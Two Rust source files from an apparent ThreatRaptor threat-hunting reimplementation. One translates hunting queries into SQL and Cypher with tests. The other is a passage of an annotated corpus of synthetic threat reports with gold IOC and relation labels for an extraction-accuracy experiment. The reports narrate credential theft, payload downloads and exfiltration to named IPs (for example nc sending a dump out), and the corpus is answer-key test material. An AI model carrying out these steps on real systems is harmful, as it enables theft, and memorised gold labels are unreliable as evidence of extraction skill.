use threatraptor_tbql::ast::{CmpOp, EntityType, Expr, Lit, Pattern};

fn table_of(ty: EntityType) -> &'static str {
    match ty {
        EntityType::Proc => "process",
        EntityType::File => "file",
        EntityType::Ip => "network",
    }
}

fn label_of(ty: EntityType) -> &'static str {
    match ty {
        EntityType::Proc => "Process",
        EntityType::File => "File",
        EntityType::Ip => "Connection",
    }
}

fn sql_lit(l: &Lit) -> String {
    match l {
        Lit::Str(s) => format!("'{}'", s.replace('\'', "''")),
        Lit::Int(i) => i.to_string(),
    }
}

fn sql_expr(var: &str, e: &Expr) -> String {
    match e {
        Expr::Cmp { attr, op, value } => {
            let op_text = match op {
                CmpOp::Like => "LIKE",
                CmpOp::Eq => "=",
                CmpOp::Ne => "<>",
                CmpOp::Lt => "<",
                CmpOp::Le => "<=",
                CmpOp::Gt => ">",
                CmpOp::Ge => ">=",
            };
            format!("{var}.{attr} {op_text} {}", sql_lit(value))
        }
        Expr::And(legs) => legs
            .iter()
            .map(|l| format!("({})", sql_expr(var, l)))
            .collect::<Vec<_>>()
            .join(" AND "),
        Expr::Or(legs) => legs
            .iter()
            .map(|l| format!("({})", sql_expr(var, l)))
            .collect::<Vec<_>>()
            .join(" OR "),
    }
}

/// Renders the SQL a PostgreSQL user would write for this query.
///
/// Path patterns become `WITH RECURSIVE` closures — the reason the paper
/// routes them to the graph backend instead.
pub fn sql_equivalent(aq: &AnalyzedQuery) -> String {
    let mut from: Vec<String> = Vec::new();
    let mut wheres: Vec<String> = Vec::new();
    let mut recursive: Vec<String> = Vec::new();

    // Entity tables (one alias per variable).
    let entities: BTreeMap<&String, _> = aq.entities.iter().collect();
    for (var, info) in &entities {
        from.push(format!("{} AS {var}", table_of(info.ty)));
        for f in &info.filters {
            wheres.push(sql_expr(var, f));
        }
    }

    for (i, pat) in aq.query.patterns.iter().enumerate() {
        let id = &aq.pattern_ids[i];
        match pat {
            Pattern::Event(e) => {
                from.push(format!("event AS {id}"));
                wheres.push(format!("{id}.subject = {}.id", e.subject.id));
                wheres.push(format!("{id}.object = {}.id", e.object.id));
                if e.ops.len() == 1 {
                    wheres.push(format!("{id}.op = '{}'", e.ops[0]));
                } else {
                    let alts: Vec<String> = e.ops.iter().map(|o| format!("'{o}'")).collect();
                    wheres.push(format!("{id}.op IN ({})", alts.join(", ")));
                }
                if let Some(w) = e.window {
                    wheres.push(format!("{id}.start >= {}", w.lo));
                    wheres.push(format!("{id}.\"end\" <= {}", w.hi));
                }
            }
            Pattern::Path(p) => {
                let min = p.min_hops.unwrap_or(1);
                let max = p.max_hops.unwrap_or(4);
                let mut cte = String::new();
                write!(
                    cte,
                    "WITH RECURSIVE {id}_closure(src, dst, depth, first_start, last_end, last_op) AS (\n\
                     \x20 SELECT e.subject, e.object, 1, e.start, e.\"end\", e.op FROM event AS e\n\
                     \x20 UNION ALL\n\
                     \x20 SELECT c.src, e.object, c.depth + 1, c.first_start, e.\"end\", e.op\n\
                     \x20   FROM {id}_closure AS c JOIN event AS e\n\
                     \x20     ON e.subject = c.dst AND e.start >= c.last_end AND c.depth < {max}\n\
                     )",
                )
                .expect("write to String");
                recursive.push(cte);
                from.push(format!("{id}_closure AS {id}"));
                wheres.push(format!("{id}.src = {}.id", p.subject.id));
                wheres.push(format!("{id}.dst = {}.id", p.object.id));
                wheres.push(format!("{id}.depth >= {min}"));
                wheres.push(format!("{id}.last_op = '{}'", p.last_op));
            }
        }
    }

    // Temporal relationships.
    for (a, b) in &aq.before {
        wheres.push(format!("{a}.\"end\" < {b}.start"));
    }

    let select: Vec<String> = aq
        .returns
        .iter()
        .map(|(var, attr)| format!("{var}.{attr}"))
        .collect();
    let mut sql = String::new();
    for cte in &recursive {
        sql.push_str(cte);
        sql.push('\n');
    }
    write!(
        sql,
        "SELECT {}{}\nFROM {}\nWHERE {};",
        if aq.distinct { "DISTINCT " } else { "" },
        select.join(", "),
        from.join(",\n     "),
        wheres.join("\n  AND ")
    )
    .expect("write to String");
    sql
}

/// Renders the Cypher a Neo4j user would write for this query.
pub fn cypher_equivalent(aq: &AnalyzedQuery) -> String {
    let mut matches: Vec<String> = Vec::new();
    let mut wheres: Vec<String> = Vec::new();
    let mut declared: Vec<&str> = Vec::new();

    let node = |var: &str, declared: &mut Vec<&str>, aq: &AnalyzedQuery| -> String {
        if declared.contains(&var) {
            format!("({var})")
        } else {
            format!("({var}:{})", label_of(aq.entities[var].ty))
        }
    };

    for (i, pat) in aq.query.patterns.iter().enumerate() {
        let id = &aq.pattern_ids[i];
        match pat {
            Pattern::Event(e) => {
                let s = node(&e.subject.id, &mut declared, aq);
                declared.push(&e.subject.id);
                let o = node(&e.object.id, &mut declared, aq);
                declared.push(&e.object.id);
                let ops = e
                    .ops
                    .iter()
                    .map(|o| o.to_uppercase())
                    .collect::<Vec<_>>()
                    .join("|");
                matches.push(format!("{s}-[{id}:{ops}]->{o}"));
                if let Some(w) = e.window {
                    wheres.push(format!("{id}.start >= {}", w.lo));
                    wheres.push(format!("{id}.end <= {}", w.hi));
                }
            }
            Pattern::Path(p) => {
                let s = node(&p.subject.id, &mut declared, aq);
                declared.push(&p.subject.id);
                let o = node(&p.object.id, &mut declared, aq);
                declared.push(&p.object.id);
                let min = p.min_hops.unwrap_or(1);
                let max = p.max_hops.unwrap_or(4);
                matches.push(format!("{id} = {s}-[*{min}..{max}]->{o}"));
                wheres.push(format!("last(relationships({id})).op = '{}'", p.last_op));
                wheres.push(format!(
                    "all(idx IN range(0, size(relationships({id})) - 2) \
                     WHERE (relationships({id})[idx]).end <= (relationships({id})[idx + 1]).start)"
                ));
            }
        }
    }

    for (var, info) in &aq.entities {
        for f in &info.filters {
            wheres.push(cypher_expr(var, f));
        }
    }
    for (a, b) in &aq.before {
        wheres.push(format!("{a}.end < {b}.start"));
    }

    let returns: Vec<String> = aq
        .returns
        .iter()
        .map(|(var, attr)| format!("{var}.{attr}"))
        .collect();
    format!(
        "MATCH {}\nWHERE {}\nRETURN {}{};",
        matches.join(",\n      "),
        wheres.join("\n  AND "),
        if aq.distinct { "DISTINCT " } else { "" },
        returns.join(", ")
    )
}

fn cypher_expr(var: &str, e: &Expr) -> String {
    match e {
        Expr::Cmp { attr, op, value } => match (op, value) {
            (CmpOp::Like, Lit::Str(s)) => {
                // `%x%` → CONTAINS, `%x` → ENDS WITH, `x%` → STARTS WITH.
                let inner = s.trim_matches('%');
                if s.starts_with('%') && s.ends_with('%') {
                    format!("{var}.{attr} CONTAINS '{inner}'")
                } else if s.starts_with('%') {
                    format!("{var}.{attr} ENDS WITH '{inner}'")
                } else if s.ends_with('%') {
                    format!("{var}.{attr} STARTS WITH '{inner}'")
                } else {
                    format!("{var}.{attr} =~ '{s}'")
                }
            }
            _ => {
                let op_text = match op {
                    CmpOp::Eq => "=",
                    CmpOp::Ne => "<>",
                    CmpOp::Lt => "<",
                    CmpOp::Le => "<=",
                    CmpOp::Gt => ">",
                    CmpOp::Ge => ">=",
                    CmpOp::Like => "=~",
                };
                format!("{var}.{attr} {op_text} {}", sql_lit(value))
            }
        },
        Expr::And(legs) => legs
            .iter()
            .map(|l| format!("({})", cypher_expr(var, l)))
            .collect::<Vec<_>>()
            .join(" AND "),
        Expr::Or(legs) => legs
            .iter()
            .map(|l| format!("({})", cypher_expr(var, l)))
            .collect::<Vec<_>>()
            .join(" OR "),
    }
}

/// Size metrics of a query text: `(characters, words, lines)` of the
/// trimmed source.
pub fn size_metrics(text: &str) -> (usize, usize, usize) {
    let trimmed = text.trim();
    (
        trimmed.chars().filter(|c| !c.is_whitespace()).count(),
        trimmed.split_whitespace().count(),
        trimmed.lines().count(),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_tbql::analyze::analyze;
    use threatraptor_tbql::parser::{parse_query, FIG2_TBQL};

    fn fig2() -> AnalyzedQuery {
        analyze(&parse_query(FIG2_TBQL).unwrap()).unwrap()
    }

    #[test]
    fn sql_covers_all_patterns_and_constraints() {
        let sql = sql_equivalent(&fig2());
        assert!(sql.contains("SELECT DISTINCT"));
        for id in ["evt1", "evt4", "evt8"] {
            assert!(sql.contains(&format!("event AS {id}")), "{sql}");
        }
        assert!(sql.contains("evt1.subject = p1.id"));
        assert!(sql.contains("p1.exename LIKE '%/bin/tar%'"));
        assert!(sql.contains("i1.dstip = '192.168.29.128'"));
        assert!(sql.contains("evt7.\"end\" < evt8.start"));
    }

    #[test]
    fn cypher_covers_all_patterns_and_constraints() {
        let cy = cypher_equivalent(&fig2());
        assert!(cy.contains("MATCH"));
        assert!(cy.contains("-[evt1:READ]->"));
        assert!(cy.contains("p1.exename CONTAINS '/bin/tar'"));
        assert!(cy.contains("RETURN DISTINCT"));
        assert!(cy.contains("evt1.end < evt2.start"));
    }

    #[test]
    fn tbql_is_more_concise_than_both() {
        let aq = fig2();
        let tbql = threatraptor_tbql::printer::print_query(&aq.query);
        let (tc, tw, _) = size_metrics(&tbql);
        let (sc, sw, _) = size_metrics(&sql_equivalent(&aq));
        let (cc, _cw, _) = size_metrics(&cypher_equivalent(&aq));
        assert!(sc > 2 * tc, "SQL chars {sc} vs TBQL {tc}");
        // Cypher words pack dense (`p.x CONTAINS 'y'`), so characters are
        // the comparable measure there.
        assert!(cc > tc, "Cypher chars {cc} vs TBQL {tc}");
        assert!(sw > 2 * tw, "SQL words {sw} vs TBQL {tw}");
    }

    #[test]
    fn path_patterns_render_recursive_sql() {
        let aq = analyze(&parse_query("proc p[\"%gpg%\"] ~>(2~4)[read] file f return p").unwrap())
            .unwrap();
        let sql = sql_equivalent(&aq);
        assert!(sql.contains("WITH RECURSIVE"), "{sql}");
        assert!(sql.contains("depth >= 2"));
        let cy = cypher_equivalent(&aq);
        assert!(cy.contains("[*2..4]"), "{cy}");
    }

    #[test]
    fn size_metrics_counts() {
        let (c, w, l) = size_metrics("a b\nc\n");
        assert_eq!((c, w, l), (3, 3, 2));
    }
}
