//! Annotated OSCTI corpus for the extraction-accuracy experiment (E2).
//!
//! Live OSCTI feeds carry no gold annotations, so accuracy cannot be
//! measured against them; this corpus substitutes curated report texts in
//! four style families — the paper's demo narratives, APT write-ups,
//! malware analyses, and incident advisories — each annotated with its
//! gold IOCs and gold IOC relations (subject, verb lemma, object).
//!
//! Gold annotations are *semantic*: they list what a careful analyst
//! would extract, regardless of whether the pipeline succeeds — several
//! reports intentionally contain constructions (deep passives, nominal
//! subjects) that stress the extractor.

use threatraptor_nlp::ioc::IocType;
use threatraptor_nlp::pipeline::FIG2_OSCTI_TEXT;

/// A gold IOC annotation (canonical form and type).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GoldIoc {
    /// Canonical IOC text as it appears (re-fanged) in the report.
    pub text: &'static str,
    /// IOC type.
    pub ty: IocType,
}

/// A gold IOC relation annotation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GoldRelation {
    /// Subject IOC (canonical text).
    pub subject: &'static str,
    /// Relation verb lemma.
    pub verb: &'static str,
    /// Object IOC (canonical text).
    pub object: &'static str,
}

/// One annotated report.
#[derive(Debug, Clone)]
pub struct CorpusReport {
    /// Report identifier.
    pub id: &'static str,
    /// Style family: `demo`, `apt`, `malware`, `advisory`.
    pub family: &'static str,
    /// Report text (possibly defanged).
    pub text: &'static str,
    /// Gold IOCs.
    pub gold_iocs: &'static [GoldIoc],
    /// Gold relations.
    pub gold_relations: &'static [GoldRelation],
}

use IocType::*;

macro_rules! ioc {
    ($text:literal, $ty:expr) => {
        GoldIoc {
            text: $text,
            ty: $ty,
        }
    };
}

macro_rules! rel {
    ($s:literal, $v:literal, $o:literal) => {
        GoldRelation {
            subject: $s,
            verb: $v,
            object: $o,
        }
    };
}

/// The OSCTI report of the password-cracking demo attack (§III bullet 1).
pub const PASSWORD_CRACK_REPORT: &str = "\
After penetrating the host through the Shellshock vulnerability, the \
attacker staged a password cracking operation. The attacker used \
/usr/bin/curl to connect to 162.125.6.2. It downloaded an image to \
/tmp/cloud.jpg. The C2 address was encoded in the EXIF metadata of the \
image. Then the attacker used /usr/bin/wget to connect to 192.168.29.128. \
It wrote the password cracker to /tmp/cracker. /tmp/cracker read user \
credentials from /etc/shadow. It wrote the recovered passwords to \
/tmp/passwords.txt.";

/// The OSCTI report of the malware-drop attack (additional case).
pub const MALWARE_DROP_REPORT: &str = "\
The intrusion began over SSH. The attacker used /usr/bin/wget to connect \
to 203.0.113.66. It wrote the payload to /tmp/.hidden/payload. \
/tmp/.hidden/payload connected to 203.0.113.66 for tasking. It wrote a \
persistence entry to /etc/cron.d/backdoor.";

/// The OSCTI report of the database-exfiltration attack (additional
/// case).
pub const DB_EXFIL_REPORT: &str = "\
The attacker targeted the production database. The attacker used \
/usr/bin/pg_dump to read the table heap at /var/lib/pgdata/base/13400/16384. \
It wrote the dump to /tmp/db.sql. Then the attacker used /bin/gzip to \
compress /tmp/db.sql. /bin/gzip wrote the compressed archive to \
/tmp/db.sql.gz. Finally, the attacker used /usr/bin/scp to read \
/tmp/db.sql.gz. It connected to 198.51.100.77.";

/// Returns the full annotated corpus.
pub fn corpus() -> Vec<CorpusReport> {
    vec![
        // ------------------------------------------------ demo family --
        CorpusReport {
            id: "demo_data_leakage",
            family: "demo",
            text: FIG2_OSCTI_TEXT,
            gold_iocs: &[
                ioc!("/bin/tar", FilePath),
                ioc!("/etc/passwd", FilePath),
                ioc!("/tmp/upload.tar", FilePath),
                ioc!("/bin/bzip2", FilePath),
                ioc!("/tmp/upload.tar.bz2", FilePath),
                ioc!("/usr/bin/gpg", FilePath),
                ioc!("/tmp/upload", FilePath),
                ioc!("/usr/bin/curl", FilePath),
                ioc!("192.168.29.128", Ip),
            ],
            gold_relations: &[
                rel!("/bin/tar", "read", "/etc/passwd"),
                rel!("/bin/tar", "write", "/tmp/upload.tar"),
                rel!("/bin/bzip2", "compress", "/tmp/upload.tar"),
                rel!("/bin/bzip2", "read", "/tmp/upload.tar"),
                rel!("/bin/bzip2", "write", "/tmp/upload.tar.bz2"),
                rel!("/usr/bin/gpg", "read", "/tmp/upload.tar.bz2"),
                rel!("/usr/bin/gpg", "write", "/tmp/upload"),
                rel!("/usr/bin/curl", "read", "/tmp/upload"),
                rel!("/usr/bin/curl", "connect", "192.168.29.128"),
            ],
        },
        CorpusReport {
            id: "demo_password_crack",
            family: "demo",
            text: PASSWORD_CRACK_REPORT,
            gold_iocs: &[
                ioc!("/usr/bin/curl", FilePath),
                ioc!("162.125.6.2", Ip),
                ioc!("/tmp/cloud.jpg", FilePath),
                ioc!("/usr/bin/wget", FilePath),
                ioc!("192.168.29.128", Ip),
                ioc!("/tmp/cracker", FilePath),
                ioc!("/etc/shadow", FilePath),
                ioc!("/tmp/passwords.txt", FilePath),
            ],
            gold_relations: &[
                rel!("/usr/bin/curl", "connect", "162.125.6.2"),
                rel!("/usr/bin/curl", "download", "/tmp/cloud.jpg"),
                rel!("/usr/bin/wget", "connect", "192.168.29.128"),
                rel!("/usr/bin/wget", "write", "/tmp/cracker"),
                rel!("/tmp/cracker", "read", "/etc/shadow"),
                rel!("/tmp/cracker", "write", "/tmp/passwords.txt"),
            ],
        },
        CorpusReport {
            id: "demo_malware_drop",
            family: "demo",
            text: MALWARE_DROP_REPORT,
            gold_iocs: &[
                ioc!("/usr/bin/wget", FilePath),
                ioc!("203.0.113.66", Ip),
                ioc!("/tmp/.hidden/payload", FilePath),
                ioc!("/etc/cron.d/backdoor", FilePath),
            ],
            gold_relations: &[
                rel!("/usr/bin/wget", "connect", "203.0.113.66"),
                rel!("/usr/bin/wget", "write", "/tmp/.hidden/payload"),
                rel!("/tmp/.hidden/payload", "connect", "203.0.113.66"),
                rel!("/tmp/.hidden/payload", "write", "/etc/cron.d/backdoor"),
            ],
        },
        CorpusReport {
            id: "demo_db_exfil",
            family: "demo",
            text: DB_EXFIL_REPORT,
            gold_iocs: &[
                ioc!("/usr/bin/pg_dump", FilePath),
                ioc!("/var/lib/pgdata/base/13400/16384", FilePath),
                ioc!("/tmp/db.sql", FilePath),
                ioc!("/bin/gzip", FilePath),
                ioc!("/tmp/db.sql.gz", FilePath),
                ioc!("/usr/bin/scp", FilePath),
                ioc!("198.51.100.77", Ip),
            ],
            gold_relations: &[
                rel!(
                    "/usr/bin/pg_dump",
                    "read",
                    "/var/lib/pgdata/base/13400/16384"
                ),
                rel!("/usr/bin/pg_dump", "write", "/tmp/db.sql"),
                rel!("/bin/gzip", "compress", "/tmp/db.sql"),
                rel!("/bin/gzip", "write", "/tmp/db.sql.gz"),
                rel!("/usr/bin/scp", "read", "/tmp/db.sql.gz"),
                rel!("/usr/bin/scp", "connect", "198.51.100.77"),
            ],
        },
        CorpusReport {
            id: "demo_shellshock",
            family: "demo",
            text: "The attacker exploited CVE-2014-6271 to penetrate the host. \
                   After the penetration, /bin/bash executed /tmp/probe.sh. \
                   /tmp/probe.sh read /etc/passwd and /etc/hosts.",
            gold_iocs: &[
                ioc!("CVE-2014-6271", Cve),
                ioc!("/bin/bash", FilePath),
                ioc!("/tmp/probe.sh", FilePath),
                ioc!("/etc/passwd", FilePath),
                ioc!("/etc/hosts", FilePath),
            ],
            gold_relations: &[
                rel!("/bin/bash", "execute", "/tmp/probe.sh"),
                rel!("/tmp/probe.sh", "read", "/etc/passwd"),
                rel!("/tmp/probe.sh", "read", "/etc/hosts"),
            ],
        },
        // ------------------------------------------------- apt family --
        CorpusReport {
            id: "apt_wateringhole",
            family: "apt",
            text: "APT-29 operators compromised the site update[.]example-cdn[.]com. \
                   Victims downloaded /tmp/flashupdate.elf from 203.0.113.12. \
                   The attacker used /tmp/flashupdate.elf to write a beacon implant \
                   to /usr/local/lib/libsync.so. /tmp/flashupdate.elf connected to \
                   198.51.100.3.",
            gold_iocs: &[
                ioc!("update.example-cdn.com", Domain),
                ioc!("/tmp/flashupdate.elf", FilePath),
                ioc!("203.0.113.12", Ip),
                ioc!("/usr/local/lib/libsync.so", FilePath),
                ioc!("198.51.100.3", Ip),
            ],
            gold_relations: &[
                rel!("/tmp/flashupdate.elf", "write", "/usr/local/lib/libsync.so"),
                rel!("/tmp/flashupdate.elf", "connect", "198.51.100.3"),
            ],
        },
        CorpusReport {
            id: "apt_spearphish",
            family: "apt",
            text: "The spearphishing email from hr-payroll[at]evil-corp[.]com delivered \
                   a weaponized attachment. Opening the attachment caused \
                   /usr/bin/soffice to write /tmp/dropper.elf. /tmp/dropper.elf \
                   connected to 203.0.113.80 and downloaded /tmp/.cache/agent. \
                   The attacker executed /tmp/.cache/agent to scan /etc/shadow.",
            gold_iocs: &[
                ioc!("hr-payroll@evil-corp.com", Email),
                ioc!("/usr/bin/soffice", FilePath),
                ioc!("/tmp/dropper.elf", FilePath),
                ioc!("203.0.113.80", Ip),
                ioc!("/tmp/.cache/agent", FilePath),
                ioc!("/etc/shadow", FilePath),
            ],
            gold_relations: &[
                rel!("/usr/bin/soffice", "write", "/tmp/dropper.elf"),
                rel!("/tmp/dropper.elf", "connect", "203.0.113.80"),
                rel!("/tmp/dropper.elf", "download", "/tmp/.cache/agent"),
                rel!("/tmp/.cache/agent", "scan", "/etc/shadow"),
            ],
        },
        CorpusReport {
            id: "apt_lateral",
            family: "apt",
            text: "After stealing credentials from /etc/krb5.keytab, the implant \
                   /opt/.sys/agentd copied /root/.ssh/id_rsa to /tmp/.stage/keys. \
                   It connected to 10.13.37.2 and uploaded the gathered keys. The \
                   operators registered a service by writing \
                   /etc/systemd/system/sysd.service.",
            gold_iocs: &[
                ioc!("/etc/krb5.keytab", FilePath),
                ioc!("/opt/.sys/agentd", FilePath),
                ioc!("/root/.ssh/id_rsa", FilePath),
                ioc!("/tmp/.stage/keys", FilePath),
                ioc!("10.13.37.2", Ip),
                ioc!("/etc/systemd/system/sysd.service", FilePath),
            ],
            gold_relations: &[
                rel!("/opt/.sys/agentd", "steal", "/etc/krb5.keytab"),
                rel!("/opt/.sys/agentd", "copy", "/root/.ssh/id_rsa"),
                rel!("/opt/.sys/agentd", "copy", "/tmp/.stage/keys"),
                rel!("/opt/.sys/agentd", "connect", "10.13.37.2"),
            ],
        },
        CorpusReport {
            id: "apt_c2rotation",
            family: "apt",
            text: "The backdoor /usr/lib/cron/crond beacons to c2[.]rotate-a[.]xyz \
                   daily. When the primary channel fails, it connects to \
                   185.220.101.7. The backdoor reads /proc/net/tcp to enumerate \
                   connections and writes its state to /var/tmp/.state.",
            gold_iocs: &[
                ioc!("/usr/lib/cron/crond", FilePath),
                ioc!("c2.rotate-a.xyz", Domain),
                ioc!("185.220.101.7", Ip),
                ioc!("/proc/net/tcp", FilePath),
                ioc!("/var/tmp/.state", FilePath),
            ],
            gold_relations: &[
                rel!("/usr/lib/cron/crond", "beacon", "c2.rotate-a.xyz"),
                rel!("/usr/lib/cron/crond", "connect", "185.220.101.7"),
                rel!("/usr/lib/cron/crond", "read", "/proc/net/tcp"),
                rel!("/usr/lib/cron/crond", "write", "/var/tmp/.state"),
            ],
        },
        CorpusReport {
            id: "apt_exfil_staging",
            family: "apt",
            text: "Collected documents were compressed into /tmp/.arch/out.7z by \
                   /usr/bin/7z. /usr/bin/7z read /home/finance/q3-report.xlsx during \
                   staging. The archive was uploaded to 91.92.109.44 by \
                   /usr/bin/rsync.",
            gold_iocs: &[
                ioc!("/tmp/.arch/out.7z", FilePath),
                ioc!("/usr/bin/7z", FilePath),
                ioc!("/home/finance/q3-report.xlsx", FilePath),
                ioc!("91.92.109.44", Ip),
                ioc!("/usr/bin/rsync", FilePath),
            ],
            gold_relations: &[
                rel!("/usr/bin/7z", "compress", "/tmp/.arch/out.7z"),
                rel!("/usr/bin/7z", "read", "/home/finance/q3-report.xlsx"),
                rel!("/usr/bin/rsync", "upload", "/tmp/.arch/out.7z"),
                rel!("/tmp/.arch/out.7z", "upload", "91.92.109.44"),
            ],
        },
        // --------------------------------------------- malware family --
        CorpusReport {
            id: "malware_dropper",
            family: "malware",
            text: "The dropper sample.elf has SHA256 \
                   e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855. \
                   On execution, sample.elf writes /tmp/.X11/payload and executes \
                   /tmp/.X11/payload. The payload connects to 45.77.12.9.",
            gold_iocs: &[
                ioc!("sample.elf", FileName),
                ioc!(
                    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
                    Sha256
                ),
                ioc!("/tmp/.X11/payload", FilePath),
                ioc!("45.77.12.9", Ip),
            ],
            gold_relations: &[
                rel!("sample.elf", "write", "/tmp/.X11/payload"),
                rel!("sample.elf", "execute", "/tmp/.X11/payload"),
                rel!("/tmp/.X11/payload", "connect", "45.77.12.9"),
            ],
        },
        CorpusReport {
            id: "malware_ransom",
            family: "malware",
            text: "The ransomware binary /usr/local/bin/lockd reads \
                   /home/user/docs/ledger.xlsx and writes \
                   /home/user/docs/ledger.enc. It deletes /home/user/docs/ledger.xlsx \
                   afterwards. Recovery notes post the key to pay[.]ransom-pad[.]top.",
            gold_iocs: &[
                ioc!("/usr/local/bin/lockd", FilePath),
                ioc!("/home/user/docs/ledger.xlsx", FilePath),
                ioc!("/home/user/docs/ledger.enc", FilePath),
                ioc!("pay.ransom-pad.top", Domain),
            ],
            gold_relations: &[
                rel!(
                    "/usr/local/bin/lockd",
                    "read",
                    "/home/user/docs/ledger.xlsx"
                ),
                rel!(
                    "/usr/local/bin/lockd",
                    "write",
                    "/home/user/docs/ledger.enc"
                ),
                rel!(
                    "/usr/local/bin/lockd",
                    "delete",
                    "/home/user/docs/ledger.xlsx"
                ),
            ],
        },
        CorpusReport {
            id: "malware_cryptominer",
            family: "malware",
            text: "The miner /opt/.cache/xmr starts at boot via /etc/rc.local. It \
                   reads /proc/cpuinfo to size its workers and connects to \
                   pool[.]mine-fast[.]online. The installer wrote /opt/.cache/xmr \
                   after fetching it from 104.18.2.2.",
            gold_iocs: &[
                ioc!("/opt/.cache/xmr", FilePath),
                ioc!("/etc/rc.local", FilePath),
                ioc!("/proc/cpuinfo", FilePath),
                ioc!("pool.mine-fast.online", Domain),
                ioc!("104.18.2.2", Ip),
            ],
            gold_relations: &[
                rel!("/opt/.cache/xmr", "start", "/etc/rc.local"),
                rel!("/opt/.cache/xmr", "read", "/proc/cpuinfo"),
                rel!("/opt/.cache/xmr", "connect", "pool.mine-fast.online"),
            ],
        },
        CorpusReport {
            id: "malware_worm",
            family: "malware",
            text: "The worm copies itself to /mnt/share/wupdater.elf on every mounted \
                   share. It scans 10.0.0.0/8 for exposed SMB services. Infected \
                   hosts fetch the worm from 172.16.40.9 and execute \
                   /tmp/wupdater.elf.",
            gold_iocs: &[
                ioc!("/mnt/share/wupdater.elf", FilePath),
                ioc!("10.0.0.0/8", IpSubnet),
                ioc!("172.16.40.9", Ip),
                ioc!("/tmp/wupdater.elf", FilePath),
            ],
            gold_relations: &[rel!("/mnt/share/wupdater.elf", "scan", "10.0.0.0/8")],
        },
        CorpusReport {
            id: "malware_stealer",
            family: "malware",
            text: "The stealer /var/tmp/.fonts/sd reads /home/user/.mozilla/logins.json \
                   and /home/user/.ssh/known_hosts. It sends the stolen data to \
                   drop[.]panel-x[.]site. Its MD5 is 9e107d9d372bb6826bd81d3542a419d6.",
            gold_iocs: &[
                ioc!("/var/tmp/.fonts/sd", FilePath),
                ioc!("/home/user/.mozilla/logins.json", FilePath),
                ioc!("/home/user/.ssh/known_hosts", FilePath),
                ioc!("drop.panel-x.site", Domain),
                ioc!("9e107d9d372bb6826bd81d3542a419d6", Md5),
            ],
            gold_relations: &[
                rel!(
                    "/var/tmp/.fonts/sd",
                    "read",
                    "/home/user/.mozilla/logins.json"
                ),
                rel!("/var/tmp/.fonts/sd", "read", "/home/user/.ssh/known_hosts"),
                rel!("/var/tmp/.fonts/sd", "send", "drop.panel-x.site"),
            ],
        },
        // -------------------------------------------- advisory family --
        CorpusReport {
            id: "advisory_shellshock",
            family: "advisory",
            text: "Advisory 2014-09: Shellshock exploitation observed in the wild.\n\n\
                   - The attacker exploited CVE-2014-6271 against /usr/sbin/apache2.\n\
                   - /usr/sbin/apache2 spawned /bin/bash with a crafted environment.\n\
                   - /bin/bash downloaded /tmp/shock.sh from 203.0.113.99.\n\
                   - /bin/bash executed /tmp/shock.sh.\n",
            gold_iocs: &[
                ioc!("CVE-2014-6271", Cve),
                ioc!("/usr/sbin/apache2", FilePath),
                ioc!("/bin/bash", FilePath),
                ioc!("/tmp/shock.sh", FilePath),
                ioc!("203.0.113.99", Ip),
            ],
            gold_relations: &[
                rel!("/usr/sbin/apache2", "spawn", "/bin/bash"),
                rel!("/bin/bash", "download", "/tmp/shock.sh"),
                rel!("/bin/bash", "download", "203.0.113.99"),
                rel!("/bin/bash", "execute", "/tmp/shock.sh"),
            ],
        },
        CorpusReport {
            id: "advisory_vpn",
            family: "advisory",
            text: "Incident summary for the VPN appliance compromise:\n\n\
                   - Exploitation of the appliance at 198.51.100.200 was observed.\n\
                   - The webshell /var/www/vpn/help.jsp wrote /tmp/tunnel.\n\
                   - /tmp/tunnel connected to 203.0.113.177 over port 443.\n\
                   - Operators used /tmp/tunnel to read /etc/passwd.\n",
            gold_iocs: &[
                ioc!("198.51.100.200", Ip),
                ioc!("/var/www/vpn/help.jsp", FilePath),
                ioc!("/tmp/tunnel", FilePath),
                ioc!("203.0.113.177", Ip),
                ioc!("/etc/passwd", FilePath),
            ],
            gold_relations: &[
                rel!("/var/www/vpn/help.jsp", "write", "/tmp/tunnel"),
                rel!("/tmp/tunnel", "connect", "203.0.113.177"),
                rel!("/tmp/tunnel", "read", "/etc/passwd"),
            ],
        },
        CorpusReport {
            id: "advisory_supplychain",
            family: "advisory",
            text: "Supply-chain compromise of the build pipeline:\n\n\
                   - The build server fetched dependency updates from \
                     registry[.]pkg-mirror[.]io.\n\
                   - The postinstall script /usr/lib/node/.hooks/post.sh wrote \
                     /usr/bin/node-helper.\n\
                   - /usr/bin/node-helper read /root/.npmrc and sent tokens to \
                     45.33.99.10.\n",
            gold_iocs: &[
                ioc!("registry.pkg-mirror.io", Domain),
                ioc!("/usr/lib/node/.hooks/post.sh", FilePath),
                ioc!("/usr/bin/node-helper", FilePath),
                ioc!("/root/.npmrc", FilePath),
                ioc!("45.33.99.10", Ip),
            ],
            gold_relations: &[
                rel!(
                    "/usr/lib/node/.hooks/post.sh",
                    "write",
                    "/usr/bin/node-helper"
                ),
                rel!("/usr/bin/node-helper", "read", "/root/.npmrc"),
                rel!("/usr/bin/node-helper", "send", "45.33.99.10"),
            ],
        },
        CorpusReport {
            id: "advisory_insider",
            family: "advisory",
            text: "Insider data-theft investigation notes:\n\n\
                   - The contractor account copied /srv/designs/blueprints.pdf to \
                     /media/usb0/exportb.pdf.\n\
                   - /usr/bin/cp read /srv/designs/blueprints.pdf during the copy.\n\
                   - Later, /usr/bin/scp uploaded /media/usb0/exportb.pdf to \
                     172.104.22.8.\n",
            gold_iocs: &[
                ioc!("/srv/designs/blueprints.pdf", FilePath),
                ioc!("/media/usb0/exportb.pdf", FilePath),
                ioc!("/usr/bin/cp", FilePath),
                ioc!("/usr/bin/scp", FilePath),
                ioc!("172.104.22.8", Ip),
            ],
            gold_relations: &[
                rel!("/usr/bin/cp", "read", "/srv/designs/blueprints.pdf"),
                rel!("/usr/bin/scp", "upload", "/media/usb0/exportb.pdf"),
                rel!("/usr/bin/scp", "upload", "172.104.22.8"),
            ],
        },
        CorpusReport {
            id: "advisory_dbleak",
            family: "advisory",
            text: "Database leak advisory:\n\n\
                   - Monitoring flagged /usr/bin/mysqldump reading \
                     /var/lib/mysql/customers.ibd.\n\
                   - The dump was written to /tmp/cust.sql.\n\
                   - /usr/bin/nc sent /tmp/cust.sql to 89.44.200.13.\n",
            gold_iocs: &[
